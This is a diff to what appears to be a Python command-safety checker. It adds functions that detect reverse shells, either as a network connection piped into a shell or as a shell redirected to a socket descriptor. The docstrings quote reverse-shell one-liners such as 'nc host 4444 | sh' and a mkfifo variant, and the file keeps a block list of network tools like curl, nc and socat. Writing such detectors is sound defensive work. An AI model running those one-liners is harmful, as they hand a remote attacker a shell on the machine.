@@ -12,7 +12,9 @@ from __future__ import annotations
 import re
 
 from app.terminal import risky_paths as paths
-from app.terminal.command_words import SHELLS, shell_code
+from app.terminal.command_words import SHELLS, resolve, shell_code
+from app.terminal.pipe_checks import name_args
+from app.terminal.shell_syntax import Command
 
 SENDERS = frozenset({
     "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "ftp", "lftp",
@@ -112,3 +114,34 @@ def connector(name: str, args: list[str]) -> bool:
     if name == "openssl":
         return "s_client" in args
     return name in _CONNECTORS
+
+
+def shell_on_connection(commands: list[Command]) -> bool:
+    """`ztcp host 4444 && zsh >&$REPLY 0>&$REPLY`: a connection is opened and a shell's
+    input or output is pointed at an extra file descriptor (where the connection is)."""
+    if not any(connector(*name_args(c)) for c in commands):
+        return False
+    return any(name_args(command)[0] in SHELLS and any(
+        r.op in (">&", "<&") and r.target.text not in ("0", "1", "2", "-")
+        for r in command.redirects) for command in commands)
+
+
+def remote_shell_pipe(commands: list[Command]) -> bool:
+    """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
+    input or output flows through a network connection."""
+    kinds = {id(command): _pipe_kind(command) for command in commands}
+    if not {"shell", "net"} <= set(kinds.values()):
+        return False
+    for command in commands:
+        upstream = {kinds.get(id(c)) for c in command.upstream}
+        mine = kinds[id(command)]
+        if (mine == "shell" and "net" in upstream) or (mine == "net" and "shell" in upstream):
+            return True
+    return False
+
+
+def _pipe_kind(command: Command) -> str:
+    resolved = resolve([w.text for w in command.words])
+    if reads_stdin_shell(resolved.name, resolved.args, command.stdin_text is not None):
+        return "shell"
+    return "net" if connector(resolved.name, resolved.args) else ""
